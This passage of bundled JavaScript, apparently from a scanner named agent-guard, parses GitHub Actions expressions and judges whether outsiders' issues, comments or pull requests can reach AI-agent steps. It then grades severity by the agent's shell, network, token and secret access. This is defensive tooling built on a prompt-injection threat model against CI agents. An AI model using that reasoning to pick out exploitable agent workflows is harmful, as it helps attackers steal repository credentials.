  lexString(start) {
    const src = this.src;
    let value = "";
    let segment = start + 1;
    let i = segment;
    for (; ; ) {
      const q = src.indexOf("'", i);
      if (q < 0) throw this.fail("unterminated string literal", start);
      if (src.charCodeAt(q + 1) === C_QUOTE) {
        value += src.slice(segment, q + 1);
        i = segment = q + 2;
        continue;
      }
      value += src.slice(segment, q);
      this.tok = T_STRING;
      this.tokValue = value;
      this.tokEnd = this.pos = q + 1;
      return;
    }
  }
  lexNumber(start) {
    const src = this.src;
    const len = this.len;
    let i = start + 1;
    while (i < len) {
      const c = src.charCodeAt(i);
      if (c !== C_DOT && isBoundary(c)) break;
      i++;
    }
    const value = numberValue(src, start, i);
    if (value === void 0) {
      if (i === start + 1) throw this.fail(`unexpected ${quote(src[start])}`, start);
      throw this.fail(`invalid number ${quote(src.slice(start, i))}`, start);
    }
    this.tok = T_NUMBER;
    this.tokValue = value;
    this.tokEnd = this.pos = i;
  }
  lexIdentifier(start) {
    const src = this.src;
    const len = this.len;
    let i = start + 1;
    while (i < len && isIdentPart(src.charCodeAt(i))) i++;
    if (i < len) {
      const c = src.charCodeAt(i);
      if (!isBoundary(c)) {
        throw this.fail(`unexpected character ${quote(String.fromCodePoint(src.codePointAt(i) ?? c))}`, i);
      }
    }
    this.tokEnd = this.pos = i;
    this.tok = T_IDENT;
    if (this.prevTok === T_DOT) return;
    const n = i - start;
    if (n === 4 || n === 5) {
      const word = src.slice(start, i).toLowerCase();
      if (word === "true") {
        this.tok = T_TRUE;
        this.tokValue = true;
      } else if (word === "false") {
        this.tok = T_FALSE;
        this.tokValue = false;
      } else if (word === "null") {
        this.tok = T_NULL;
        this.tokValue = null;
      }
    } else if (n === 3 && src.startsWith("NaN", start)) {
      this.tok = T_NUMBER;
      this.tokValue = NaN;
    } else if (n === 8 && src.startsWith("Infinity", start)) {
      this.tok = T_NUMBER;
      this.tokValue = Infinity;
    }
  }
  // ---- grammar
  /** Current token kind test (a method, so narrowing does not survive advance()). */
  is(kind) {
    return this.tok === kind;
  }
  parseBinary(minPrec) {
    const start = this.tokStart;
    let left = this.parseUnary();
    for (; ; ) {
      const p = precedence(this.tok);
      if (p === 0 || p < minPrec) return left;
      const op = BINARY_OP[this.tok];
      this.advance();
      const right = this.parseBinary(p + 1);
      left = { kind: "binary", op, left, right, start, end: this.prevEnd };
    }
  }
  parseUnary() {
    if (!this.is(T_BANG)) return this.parsePostfix();
    const bangs = [];
    while (this.is(T_BANG)) {
      this.enter();
      bangs.push(this.tokStart);
      this.advance();
    }
    let e = this.parsePostfix();
    for (let k = bangs.length - 1; k >= 0; k--) {
      e = { kind: "unary", op: "!", operand: e, start: bangs[k], end: this.prevEnd };
    }
    this.depth -= bangs.length;
    return e;
  }
  parsePostfix() {
    const start = this.tokStart;
    let e;
    switch (this.tok) {
      case T_NUMBER:
      case T_STRING:
      case T_TRUE:
      case T_FALSE:
      case T_NULL:
        e = { kind: "literal", value: this.tokValue, start, end: this.tokEnd };
        this.advance();
        return e;
      // literals take no `.`/`[]`, as in the runner
      case T_IDENT: {
        const name = this.src.slice(start, this.tokEnd).toLowerCase();
        this.advance();
        e = this.is(T_LPAREN) ? this.parseCall(name, start) : { kind: "context", name, start, end: this.prevEnd };
        break;
      }
      case T_LPAREN: {
        this.enter();
        this.advance();
        e = this.parseBinary(1);
        this.expectClose(T_RPAREN, "(", ")", start);
        this.advance();
        this.depth--;
        break;
      }
      default:
        throw this.unexpected();
    }
    for (; ; ) {
      if (this.is(T_DOT)) {
        this.advance();
        if (this.is(T_IDENT)) {
          e = { kind: "property", object: e, name: this.src.slice(this.tokStart, this.tokEnd), start, end: this.tokEnd };
        } else if (this.is(T_STAR)) {
          e = { kind: "star", object: e, start, end: this.tokEnd };
        } else {
          throw this.unexpected("a property name or '*'");
        }
        this.advance();
      } else if (this.is(T_LBRACKET)) {
        const open = this.tokStart;
        this.enter();
        this.advance();
        let index2 = null;
        if (this.is(T_STAR)) {
          this.advance();
        } else {
          index2 = this.parseBinary(1);
        }
        this.expectClose(T_RBRACKET, "[", "]", open);
        e = index2 ? { kind: "index", object: e, index: index2, start, end: this.tokEnd } : { kind: "star", object: e, start, end: this.tokEnd };
        this.advance();
        this.depth--;
      } else {
        return e;
      }
    }
  }
  /** The current token is the `(` after a function name. */
  parseCall(name, start) {
    const open = this.tokStart;
    this.enter();
    this.advance();
    const args = [];
    if (!this.is(T_RPAREN)) {
      for (; ; ) {
        args.push(this.parseBinary(1));
        if (this.is(T_COMMA)) {
          this.advance();
          continue;
        }
        if (this.is(T_RPAREN)) break;
        if (this.is(T_EOF)) this.expectClose(T_RPAREN, "(", ")", open);
        throw this.unexpected("',' or ')'");
      }
    }
    const e = { kind: "call", name, args, start, end: this.tokEnd };
    this.advance();
    this.depth--;
    return e;
  }
};
function parseExpression(text) {
  return new Parser(text).parse();
}
function tryParseExpression(text) {
  try {
    return parseExpression(text);
  } catch (err) {
    if (err instanceof ExpressionSyntaxError) return err;
    throw err;
  }
}
function findTemplates(s) {
  const out = [];
  const n = s.length;
  let from = 0;
  for (; ; ) {
    const start = s.indexOf("${{", from);
    if (start < 0) return out;
    const innerStart = start + 3;
    let inString = false;
    let close = -1;
    for (let i = innerStart; i < n; i++) {
      const c = s.charCodeAt(i);
      if (c === C_QUOTE) {
        inString = !inString;
      } else if (c === C_RBRACE && !inString && s.charCodeAt(i + 1) === C_RBRACE) {
        close = i;
        break;
      }
    }
    if (close < 0) {
      out.push({ start, end: n, innerStart, innerEnd: n, inner: s.slice(innerStart), unterminated: true });
      return out;
    }
    out.push({ start, end: close + 2, innerStart, innerEnd: close, inner: s.slice(innerStart, close) });
    from = close + 2;
  }
}
function indexSegment(index2) {
  return index2.kind === "literal" && typeof index2.value === "string" ? index2.value.toLowerCase() : "*";
}
function chainRoot(e, segments, indexes2) {
  let n = e;
  for (; ; ) {
    switch (n.kind) {
      case "property":
        segments.push(n.name.toLowerCase());
        n = n.object;
        break;
      case "star":
        segments.push("*");
        n = n.object;
        break;
      case "index":
        segments.push(indexSegment(n.index));
        if (indexes2 && n.index.kind !== "literal") indexes2.push(n.index);
        n = n.object;
        break;
      default:
        return n;
    }
  }
}
function joinPath(root, segments) {
  let path14 = root;
  for (let k = segments.length - 1; k >= 0; k--) path14 += "." + segments[k];
  return path14;
}
function accessPath(e) {
  const segments = [];
  const root = chainRoot(e, segments, null);
  return root.kind === "context" ? joinPath(root.name, segments) : null;
}
function references(e) {
  const out = [];
  const nodes = [e];
  const fns = [[]];
  while (nodes.length > 0) {
    const node = nodes.pop();
    const functions = fns.pop();
    switch (node.kind) {
      case "literal":
        break;
      case "context":
      case "property":
      case "star":
      case "index": {
        const segments = [];
        const indexes2 = [];
        const root = chainRoot(node, segments, indexes2);
        for (const ix of indexes2) {
          nodes.push(ix);
          fns.push(functions);
        }
        if (root.kind === "context") {
          out.push({ path: joinPath(root.name, segments), node, functions });
        } else {
          nodes.push(root);
          fns.push(functions);
        }
        break;
      }
      case "call": {
        const inner = [node.name, ...functions];
        for (let k = node.args.length - 1; k >= 0; k--) {
          nodes.push(node.args[k]);
          fns.push(inner);
        }
        break;
      }
      case "unary":
        nodes.push(node.operand);
        fns.push(functions);
        break;
      case "binary":
        nodes.push(node.right, node.left);
        fns.push(functions, functions);
        break;
    }
  }
  return out;
}
var REFERENCE_CACHE_LIMIT = 2e4;
var referenceCache = /* @__PURE__ */ new Map();
function referencesOf(inner) {
  const known = referenceCache.get(inner);
  if (known !== void 0) return known;
  const parsed = tryParseExpression(inner);
  const refs = parsed instanceof ExpressionSyntaxError ? null : references(parsed);
  if (referenceCache.size >= REFERENCE_CACHE_LIMIT) referenceCache.clear();
  referenceCache.set(inner, refs);
  return refs;
}

// src/analysis/gates.ts
var ANY = { k: "any" };
var BOTH = { k: "bool", t: true, f: true };
var TRUE = { k: "bool", t: true, f: false };
var FALSE = { k: "bool", t: false, f: true };
var OUTSIDER_ASSOCIATIONS = ["none", "contributor", "first_time_contributor", "first_timer", "mannequin"];
var OBJECT_ROLES = {
  issue: "issue",
  comment: "comment",
  pull_request: "pull_request",
  review: "review",
  discussion: "discussion",
  workflow_run: "workflow_run",
  head_commit: "commit"
};
function parseCondition(node) {
  if (!node) return null;
  const text = node.text.trim();
  if (!text) return null;
  const templates = findTemplates(text);
  let source = text;
  if (templates.length) {
    if (templates.length !== 1 || templates[0].start !== 0 || templates[0].end !== text.length) return null;
    source = templates[0].inner;
  }
  if (source.length > GITHUB_MAX_EXPRESSION_LENGTH) return null;
  const parsed = tryParseExpression(source);
  return parsed instanceof Error ? null : parsed;
}
function canPass(condition, scenario2) {
  if (!condition) return true;
  try {
    return truthy(evaluate(condition, scenario2)).t;
  } catch (err) {
    if (err instanceof RangeError) return true;
    throw err;
  }
}
function truthy(v) {
  switch (v.k) {
    case "bool":
      return v;
    case "strs":
      return { t: v.v.some((s) => s !== "" && s !== "false" && s !== "0"), f: v.v.some((s) => s === "" || s === "0") };
    case "array":
    case "login":
    case "repo":
    case "forkRepo":
      return { t: true, f: false };
    default:
      return { t: true, f: true };
  }
}
function evaluate(e, s) {
  switch (e.kind) {
    case "literal":
      if (e.value === null) return { k: "strs", v: [""] };
      if (typeof e.value === "boolean") return e.value ? TRUE : FALSE;
      return { k: "strs", v: [String(e.value).toLowerCase()] };
    case "unary": {
      const t = truthy(evaluate(e.operand, s));
      return { k: "bool", t: t.f, f: t.t };
    }
    case "binary":
      return binary(e.op, e.left, e.right, s);
    case "call":
      return call(e.name, e.args, s);
    default: {
      const path14 = accessPath(e);
      return path14 ? contextValue(path14, s) : ANY;
    }
  }
}
function binary(op, left, right, s) {
  if (op === "&&") {
    const l2 = truthy(evaluate(left, s));
    const r2 = truthy(evaluate(right, s));
    return { k: "bool", t: l2.t && r2.t, f: l2.f || r2.f };
  }
  if (op === "||") {
    const l2 = truthy(evaluate(left, s));
    const r2 = truthy(evaluate(right, s));
    return { k: "bool", t: l2.t || r2.t, f: l2.f && r2.f };
  }
  const l = evaluate(left, s);
  const r = evaluate(right, s);
  if (op === "==") return equals(l, r, s);
  if (op === "!=") {
    const eq = equals(l, r, s);
    return { k: "bool", t: eq.f, f: eq.t };
  }
  return BOTH;
}
function equals(a, b, s) {
  if (a.k === "any" || b.k === "any") return BOTH;
  if (b.k === "login" || b.k === "forkRepo" || b.k === "repo" && a.k !== "login" && a.k !== "forkRepo") [a, b] = [b, a];
  if (a.k === "login") {
    if (b.k === "strs") return { k: "bool", t: b.v.some((v) => isBotLogin(v) && !s?.trustedBots?.has(v)), f: true };
    return BOTH;
  }
  if (a.k === "forkRepo") return b.k === "repo" ? FALSE : BOTH;
  if (a.k === "repo") return b.k === "repo" ? TRUE : BOTH;
  if (a.k === "strs" && b.k === "strs") {
    const t = a.v.some((x) => b.v.includes(x));
    const f = !(a.v.length === 1 && b.v.length === 1 && a.v[0] === b.v[0]);
    return { k: "bool", t, f };
  }
  if (a.k === "bool" && b.k === "bool") return { k: "bool", t: a.t && b.t || a.f && b.f, f: a.t && b.f || a.f && b.t };
  if (a.k === "bool" && b.k === "strs") return boolVsStrings(a, b.v);
  if (b.k === "bool" && a.k === "strs") return boolVsStrings(b, a.v);
  return BOTH;
}
function boolVsStrings(a, strs) {
  const t = a.t && strs.includes("1") || a.f && strs.some((x) => x === "0" || x === "");
  return { k: "bool", t, f: true };
}
function isBotLogin(login) {
  return login.endsWith("[bot]");
}
function call(name, args, s) {
  switch (name) {
    case "success":
    case "failure":
    case "cancelled":
      return BOTH;
    case "always":
      return TRUE;
    case "fromjson": {
      const arg = args[0] && evaluate(args[0], s);
      if (arg?.k === "strs" && arg.v.length === 1) return fromJsonLiteral(arg.v[0]);
      return ANY;
    }
    case "contains": {
      if (args.length !== 2) return BOTH;
      const hay = evaluate(args[0], s);
      const needle = evaluate(args[1], s);
      if (hay.k === "array") {
        const results = hay.items.map((item) => equals(item, needle, s));
        return { k: "bool", t: results.some((r) => r.t), f: results.every((r) => r.f) };
      }
      if (hay.k === "strs" && needle.k === "strs") {
        const t = hay.v.some((h) => needle.v.some((n) => h.includes(n)));
        const f = hay.v.some((h) => needle.v.some((n) => !h.includes(n)));
        return { k: "bool", t, f };
      }
      return BOTH;
    }
    case "startswith":
    case "endswith": {
      const a = args[0] && evaluate(args[0], s);
      const b = args[1] && evaluate(args[1], s);
      if (a?.k === "strs" && b?.k === "strs") {
        const test = (x, y) => name === "startswith" ? x.startsWith(y) : x.endsWith(y);
        return { k: "bool", t: a.v.some((x) => b.v.some((y) => test(x, y))), f: a.v.some((x) => b.v.some((y) => !test(x, y))) };
      }
      return BOTH;
    }
    default:
      return ANY;
  }
}
function fromJsonLiteral(text) {
  try {
    return jsonToValue(JSON.parse(text));
  } catch {
    return ANY;
  }
}
function jsonToValue(v) {
  if (Array.isArray(v)) return { k: "array", items: v.map(jsonToValue) };
  if (typeof v === "boolean") return v ? TRUE : FALSE;
  if (v === null) return { k: "strs", v: [""] };
  if (typeof v === "string" || typeof v === "number") return { k: "strs", v: [String(v).toLowerCase()] };
  return ANY;
}
function contextValue(path14, s) {
  const attacked = (role) => s.attacker.has(role);
  switch (path14) {
    case "github.event_name":
      return { k: "strs", v: [s.event] };
    case "github.event.action":
      return s.actions.allowed ? { k: "strs", v: s.actions.allowed } : ANY;
    case "github.actor":
    case "github.triggering_actor":
    case "github.event.sender.login":
      return attacked("actor") ? { k: "login" } : ANY;
    case "github.repository":
      return { k: "repo" };
    case "github.event.label.name":
      return attacked("actor") ? { k: "strs", v: [""] } : ANY;
    case "github.event.pull_request.head.repo.fork":
      return attacked("pull_request") ? TRUE : ANY;
    case "github.event.pull_request.head.repo.full_name":
    case "github.event.pull_request.head.label":
      return attacked("pull_request") ? { k: "forkRepo" } : ANY;
    case "github.event.workflow_run.head_repository.full_name":
      return attacked("workflow_run") ? { k: "forkRepo" } : ANY;
    case "github.event.workflow_run.head_repository.fork":
      return attacked("workflow_run") ? TRUE : ANY;
    case "github.event.workflow_run.actor.login":
    case "github.event.workflow_run.triggering_actor.login":
      return attacked("workflow_run") ? { k: "login" } : ANY;
    case "github.event.head_commit.author.name":
    case "github.event.head_commit.author.username":
    case "github.event.head_commit.committer.username":
      return attacked("commit") ? { k: "login" } : ANY;
  }
  const parts = path14.split(".");
  if (parts[0] === "github" && parts[1] === "event" && parts.length >= 4) {
    const role = OBJECT_ROLES[parts[2]];
    const rest = parts.slice(3).join(".");
    if (role) {
      if (rest === "author_association") return attacked(role) ? { k: "strs", v: OUTSIDER_ASSOCIATIONS } : ANY;
      if (rest === "user.login" || rest === "head.user.login" || rest === "head.repo.owner.login") {
        return attacked(role) ? { k: "login" } : ANY;
      }
    }
  }
  if (parts[0] === "steps" && parts.length >= 3 && s.permissionSteps.has(parts[1]) && attacked("actor")) {
    return NOT_PERMITTED;
  }
  if (parts[0] === "needs" && parts.length >= 3 && s.permissionJobs.has(parts[1]) && attacked("actor")) {
    return NOT_PERMITTED;
  }
  return ANY;
}
var NOT_PERMITTED = { k: "strs", v: ["", "false", "none", "read", "triage", "failure", "skipped"] };

// src/analysis/triggers.ts
var ACTOR_ROLES = {
  issues: ["issue"],
  issue_comment: ["comment"],
  discussion: ["discussion"],
  discussion_comment: ["comment"],
  pull_request: ["pull_request", "commit"],
  pull_request_target: ["pull_request", "commit"],
  pull_request_review: ["review"],
  pull_request_review_comment: ["comment"],
  workflow_run: ["workflow_run", "commit"],
  repository_dispatch: ["payload"],
  push: ["commit"]
};
function triggerRuleFor(rules, event) {
  return rules.find((r) => r.event === event);
}
function classifyTriggers(workflow, rules, byName) {
  return workflow.triggers.map((trigger) => classify(trigger, workflow, rules, byName, /* @__PURE__ */ new Set()));
}
function classify(trigger, workflow, rules, byName, seen) {
  const event = trigger.event.toLowerCase();
  const rule = triggerRuleFor(rules, event);
  const filter = trigger.types.map((t) => t.toLowerCase());
  const maintainerOnly = (rule?.maintainerOnlyTypes ?? []).map((t) => t.toLowerCase());
  const allActions = { allowed: filter.length ? filter : null, excluded: [] };
  const outsiderTypes = filter.length ? filter.filter((t) => !maintainerOnly.includes(t)) : null;
  const outsiderActions = outsiderTypes === null ? { allowed: null, excluded: maintainerOnly } : outsiderTypes.length ? { allowed: outsiderTypes, excluded: [] } : null;
  const base = { event, trigger, workflow, allActions };
  if (!rule) return { ...base, firing: "maintainers", outsiderActions: null, uncertain: `unknown event '${event}'` };
  switch (rule.who) {
    case "anyone":
    case "anyone-unprivileged":
      return { ...base, firing: outsiderActions ? rule.who : "maintainers", outsiderActions };
    case "callers":
      return { ...base, firing: "callers", outsiderActions };
    case "maintainers":
      return { ...base, firing: "maintainers", outsiderActions: null };
    case "upstream":
      return { ...base, ...upstreamFiring(trigger, workflow, rules, byName, seen), outsiderActions };
  }
}
var upstreamMemo = /* @__PURE__ */ new WeakMap();
function memoFor(byName) {
  let memo = upstreamMemo.get(byName);
  if (!memo) upstreamMemo.set(byName, memo = /* @__PURE__ */ new Map());
  return memo;
}
function upstreamFiring(trigger, workflow, rules, byName, seen) {
  const config = trigger.config;
  const names = [];
  if (config?.kind === "map") {
    const list = config.pairs.find((p) => p.key.text === "workflows")?.value;
    if (list?.kind === "seq") {
      for (const i of list.items) if (i.kind === "scalar") names.push(i.text);
    } else if (list?.kind === "scalar") {
      names.push(list.text);
    }
  }
  if (!names.length) return { firing: "anyone", uncertain: "workflow_run without a workflows list" };
  seen.add(workflow);
  let unresolved = 0;
  for (const name of names) {
    const known = memoFor(byName).get(name);
    if (known === "outsiders") return { firing: "anyone" };
    if (known === "maintainers") continue;
    let outsiders = false;
    let found = false;
    for (const upstream of byName(name)) {
      found = true;
      if (seen.has(upstream)) continue;
      const fired = upstream.triggers.map((t) => classify(t, upstream, rules, byName, seen));
      if (fired.some((t) => t.firing === "anyone" || t.firing === "anyone-unprivileged")) {
        outsiders = true;
        break;
      }
    }
    if (!found) {
      unresolved++;
      continue;
    }
    memoFor(byName).set(name, outsiders ? "outsiders" : "maintainers");
    if (outsiders) return { firing: "anyone" };
  }
  if (unresolved) return { firing: "anyone", uncertain: `upstream workflow '${names.join("', '")}' not found in the repository` };
  return { firing: "maintainers" };
}

// src/analysis/reach.ts
var REACH_ORDER = { none: 0, "action-gated": 1, maintainer: 2, "outsider-unprivileged": 3, outsider: 4 };
var THREAD_EVENTS = /* @__PURE__ */ new Set([
  "issues",
  "issue_comment",
  "pull_request",
  "pull_request_target",
  "pull_request_review",
  "pull_request_review_comment",
  "discussion",
  "discussion_comment"
]);
var TRIGGERING_ACTOR = { kind: "context", role: "actor", events: null, what: "the triggering actor" };
function reachOf(origin, step, actorGate) {
  let best = { level: "none", how: "no trigger lets an outsider reach it" };
  const hard = hardGates(step);
  for (const trigger of step.job.triggers) {
    const event = trigger.event;
    if (origin.events && !origin.events.includes(event)) continue;
    if (origin.kind === "thread" && !THREAD_EVENTS.has(event)) continue;
    const candidate = reachOnTrigger(origin, step, trigger, hard, actorGate);
    if (REACH_ORDER[candidate.level] > REACH_ORDER[best.level]) best = candidate;
    if (best.level === "outsider") break;
  }
  return best;
}
function reachOnTrigger(origin, step, trigger, hard, actorGate) {
  const event = trigger.event;
  const role = origin.role;
  const actorRoles = ACTOR_ROLES[event] ?? [];
  const who = trigger.firing;
  const envNote = hard.environment ? `environment '${hard.environment}' may require a reviewer's approval` : void 0;
  const uncertain = [trigger.uncertain, envNote].filter(Boolean).join("; ") || void 0;
  const outsiderFires = (who === "anyone" || who === "anyone-unprivileged" || who === "callers") && trigger.outsiderActions && !origin.maintainerChosen;
  let fallback = { level: "none", how: "gated", uncertain };
  if (outsiderFires) {
    const attacker = /* @__PURE__ */ new Set(["actor", ...actorRoles, role]);
    const blockedBy = directBlocker(hard, actorGate, event);
    if (passes(step, scenario(event, trigger.outsiderActions, attacker, hard, step))) {
      const callers = who === "callers" ? "whoever calls this reusable workflow (callers unknown here)" : "any GitHub user";
      if (!blockedBy) {
        const level = who === "anyone-unprivileged" ? "outsider-unprivileged" : "outsider";
        return { level, trigger, how: `${callers} can fire '${event}'${describeTypes(trigger.outsiderActions)}`, uncertain: who === "callers" ? "reusable workflow with no caller in this repository" : uncertain };
      }
      if (actorGate && blockedBy === actorGate.description) {
        fallback = { level: "action-gated", trigger, how: `${callers} can fire '${event}'; only ${actorGate.description} stops outsiders`, uncertain };
      }
    }
  }
  if ((origin.kind === "fetch" || origin.kind === "thread") && !origin.maintainerChosen && (event === "schedule" || event === "workflow_run" || event === "push")) {
    if (passes(step, scenario(event, trigger.allActions, /* @__PURE__ */ new Set([role]), hard, step))) {
      return { level: "outsider", trigger, how: `'${event}' runs unattended over text outsiders wrote (issues, comments, pull requests)`, uncertain };
    }
  }
  const indirectPossible = role !== "actor" && (!actorRoles.includes(role) || hasMaintainerActions(trigger) || origin.kind !== "context");
  if (indirectPossible && passes(step, scenario(event, trigger.allActions, /* @__PURE__ */ new Set([role, ...role === "pull_request" ? ["commit"] : []]), hard, step))) {
    const whose = origin.kind === "context" ? `the ${origin.role.replace("_", " ")} an outsider wrote` : "text outsiders wrote";
    return { level: "maintainer", trigger, how: `only a maintainer's '${event}' starts it, but over ${whose} (one click on a poisoned issue is enough)`, uncertain };
  }
  return fallback;
}
function describeTypes(actions) {
  return actions.allowed ? ` (${actions.allowed.join(", ")})` : "";
}
function hasMaintainerActions(trigger) {
  const outsider = trigger.outsiderActions;
  if (!outsider) return true;
  const all = trigger.allActions.allowed;
  if (!all) return outsider.excluded.length > 0;
  return all.some((a) => !outsider.allowed || !outsider.allowed.includes(a));
}
function directBlocker(hard, actorGate, event) {
  if (hard.blockingCheck) return hard.blockingCheck;
  if (actorGate?.enforcedOn(event)) return actorGate.description;
  return void 0;
}
function scenario(event, actions, attacker, hard, step) {
  return { event, actions, attacker, permissionSteps: hard.permissionSteps, permissionJobs: hard.permissionJobs, trustedBots: step.job.trust.bots };
}
function passes(step, s) {
  for (const c of step.job.conditions) if (!canPass(c.expr, s)) return false;
  for (const c of step.conditions) if (!canPass(c.expr, s)) return false;
  return true;
}
function hardGates(step) {
  const job = step.job;
  const gates = { permissionSteps: /* @__PURE__ */ new Set(), permissionJobs: /* @__PURE__ */ new Set() };
  if (job.job.environment) gates.environment = job.job.environment.name;
  for (const s of job.steps) {
    if (s.position >= step.position) break;
    const kind = permissionCheckKind(s);
    if (!kind) continue;
    if (s.step.id) gates.permissionSteps.add(s.step.id);
    if (kind === "fails" && !s.step.continueOnError) gates.blockingCheck = `the permission check in step '${s.step.label}'`;
  }
  for (const needed of allNeeds(job.needs)) {
    if (needed.steps.some((s) => permissionCheckKind(s))) {
      gates.permissionJobs.add(needed.job.id);
      if (needed.steps.some((s) => permissionCheckKind(s) === "fails")) gates.blockingCheck = `the permission check in job '${needed.job.id}'`;
    }
  }
  return gates;
}
function allNeeds(needs) {
  const out = /* @__PURE__ */ new Set();
  const stack = [...needs];
  while (stack.length) {
    const j = stack.pop();
    if (out.has(j)) continue;
    out.add(j);
    stack.push(...j.needs);
  }
  return [...out];
}
var PERMISSION_ACTIONS = /^(actions-cool\/check-user-permission|sushichop\/action-repository-permission|prince-chrismc\/check-actor-permissions-action|lannonbr\/repo-permission-check-action|xt0rted\/slash-command-action|TheModdingInquisition\/actions-team-membership|tspascoal\/get-user-teams-membership)@/i;
var PERMISSION_API = /getCollaboratorPermissionLevel|collaborators\/[^/\s]+\/permission|\/permission\b|checkMembershipForUser|getMembershipForUserInOrg|orgs\/[^/\s]+\/members\/|teams\/[^/\s]+\/memberships/;
var FAILS = /setFailed|process\.exit\(\s*1|\bexit\s+1\b|throw\s+new\s+Error|core\.setFailed/;
function permissionCheckKind(s) {
  const uses = s.step.uses?.text ?? "";
  if (PERMISSION_ACTIONS.test(uses)) {
    return /actions-cool\/check-user-permission|membership/i.test(uses) ? "reports" : "fails";
  }
  const code3 = /^actions\/github-script@/i.test(uses) ? inputOf(s.step.with, "script")?.text ?? "" : s.step.run?.text ?? "";
  if (!code3 || !PERMISSION_API.test(code3)) return null;
  return FAILS.test(code3) ? "fails" : "reports";
}

// src/analysis/severity.ts
var POWERFUL_SCOPES = /* @__PURE__ */ new Set(["*", "contents", "actions", "packages", "workflows", "deployments", "pages"]);
function holdingOf(c) {
  if (c.jailed) return "nothing";
  const exfil = c.tools.shell === "full" || c.tools.network;
  const nonModelSecrets = c.secrets.some((s) => !s.modelKey);
  const hasTools = c.tools.shell !== "none" || c.tools.network || c.tools.writesFiles;
  const tokenInHand = c.tokens.length > 0 && hasTools;
  const powerfulToken = c.writeScopes.some((s) => POWERFUL_SCOPES.has(s)) && (tokenInHand || c.persistedCredentials);
  const publishPower = nonModelSecrets || c.tokens.some((t) => t.foreign) || powerfulToken || c.idToken || c.selfHosted || c.cloudCredentials.length > 0;
  if (c.tools.shell === "full" && !c.selfHosted) return "worm";
  if ((exfil || c.tools.shell === "restricted") && publishPower) return "worm";
  const anyWrite = c.writeScopes.length > 0;
  const modelKey = c.keyInProcess && c.secrets.some((s) => s.modelKey);
  if (exfil) return "acts";
  if (tokenInHand && anyWrite) return "acts";
  if (c.tools.shell === "restricted" && (anyWrite || nonModelSecrets || modelKey)) return "acts";
  if (c.idToken && c.tools.shell !== "none") return "acts";
  return "nothing";
}
function severityFor(reach, c) {
  if (reach === "none") return null;
  if (reach === "action-gated") return "low";
  const holding = holdingOf(c);
  if (reach === "outsider") return holding === "worm" ? "critical" : holding === "acts" ? "high" : "medium";
  if (reach === "outsider-unprivileged") return "medium";
  return holding === "nothing" ? "low" : "medium";
}

// src/checks/context.ts
var DOCS_BASE = "https://github.com/agent-guard/agent-guard/blob/main/docs/rules";
function docsUrl(id) {
  return `${DOCS_BASE}/${id}.md`;
}

// src/analysis/capabilities.ts
var HOSTED_RUNNER = /^(ubuntu|windows|macos)-|^(ubuntu|windows|macos)$/i;
var MODEL_KEY_NAME = /(ANTHROPIC|CLAUDE|OPENAI|GEMINI|GOOGLE_API|QWEN|DASHSCOPE|OPENROUTER|MISTRAL|GROQ|DEEPSEEK|COHERE|XAI|OPENCODE|CURSOR|FACTORY|WARP|AMP|LLM|AI)_?(API_?)?(KEY|TOKEN)|OAUTH_TOKEN/i;
var TOKEN_ENV = /^(GITHUB_TOKEN|GH_TOKEN|GITHUB_PAT|GH_PAT|GH_ENTERPRISE_TOKEN|GITHUB_PERSONAL_ACCESS_TOKEN|COPILOT_GITHUB_TOKEN)$/;
function secretRefs(node, within, depth = 0) {
  const out = { secrets: [], githubToken: false };
  const visit = (n) => {
    if (!n) return;
    if (n.kind === "map") return n.pairs.forEach((p) => visit(p.value));
    if (n.kind === "seq") return n.items.forEach(visit);
    if (typeof n.value !== "string" || !n.text.includes("${{")) return;
    for (const t of findTemplates(n.text)) {
      for (const r of referencesOf(t.inner) ?? []) {
        if (r.path === "github.token" || r.path === "secrets.github_token") out.githubToken = true;
        else if (r.path.startsWith("secrets.") && r.path.length > 8) out.secrets.push(r.path.slice(8).toUpperCase());
        else if (r.path === "secrets" || r.path === "secrets.*") out.secrets.push("*");
        else if (r.path.startsWith("inputs.") && within?.frame && depth < 8) {
          const given = inputOf(within.frame.callerStep.step.with, r.path.slice(7));
          const inner = secretRefs(given?.value, within.frame.callerStep, depth + 1);
          out.secrets.push(...inner.secrets);
          out.githubToken ||= inner.githubToken;
        }
      }
    }
  };
  visit(node);
  return out;
}
function writeScopesOf(permissions) {
  if (!permissions) return { scopes: ["*"], isDefault: true, idToken: false };
  if (permissions.all === "write") return { scopes: ["*"], isDefault: false, idToken: true };
  const scopes = Object.entries(permissions.scopes).filter(([scope, level]) => level === "write" && scope !== "id-token").map(([scope]) => scope);
  return { scopes, isDefault: false, idToken: permissions.scopes["id-token"] === "write" };
}
var RUN_SCRIPT = { shell: "full", network: true, writesFiles: true };
function shellCapabilities(step) {
  return capabilitiesAt(step, { keyEnv: [] }, RUN_SCRIPT, false);
}
function capabilitiesAt(step, agent, tools, jailed) {
  const secrets = [];
  const tokens = [];
  const keyInputs = new Set((agent.action?.keyInputs ?? []).map((i) => i.toLowerCase()));
  const tokenInputs = new Set((agent.action?.tokenInputs ?? []).map((i) => i.toLowerCase()));
  const isModelKey = (name, secret) => agent.keyEnv.includes(name) || keyInputs.has(name.toLowerCase()) || MODEL_KEY_NAME.test(secret) || MODEL_KEY_NAME.test(name);
  const envLayers = [
    { entries: step.step.env, where: "env", within: step },
    ...framesOf(step).map((caller) => ({ entries: caller.step.env, where: `env of step '${caller.step.label}'`, within: caller })),
    { entries: step.job.job.env, where: "job env", within: step },
    { entries: step.job.workflow.env, where: "workflow env", within: step }
  ];
  for (const layer of envLayers) {
    for (const entry of layer.entries) {
      const refs = secretRefs(entry.value, layer.within);
      for (const s of refs.secrets) secrets.push({ name: s, via: `${layer.where} ${entry.name}`, modelKey: isModelKey(entry.name, s) });
      const tokenVar = TOKEN_ENV.test(entry.name) && entry.value.kind === "scalar" && entry.value.text.trim() !== "";
      if (refs.githubToken || tokenVar) {
        tokens.push({ via: `${layer.where} ${entry.name}`, foreign: !refs.githubToken });
      }
    }
  }
  for (const input of step.step.with) {
    const refs = secretRefs(input.value, step);
    for (const s of refs.secrets) {
      const token = tokenInputs.has(input.name.toLowerCase()) || TOKEN_ENV.test(s);
      if (token) tokens.push({ via: `input ${input.name}`, foreign: true });
      else secrets.push({ name: s, via: `input ${input.name}`, modelKey: isModelKey(input.name, s) });
    }
    if (refs.githubToken && tokenInputs.has(input.name.toLowerCase())) tokens.push({ via: `input ${input.name}`, foreign: false });
  }
  if (agent.action?.tokenInputs?.length && !tokens.some((t) => t.via.startsWith("input"))) {
    tokens.push({ via: "the default github.token", foreign: false });
  }
  const inherited = step.job.caller?.secrets;
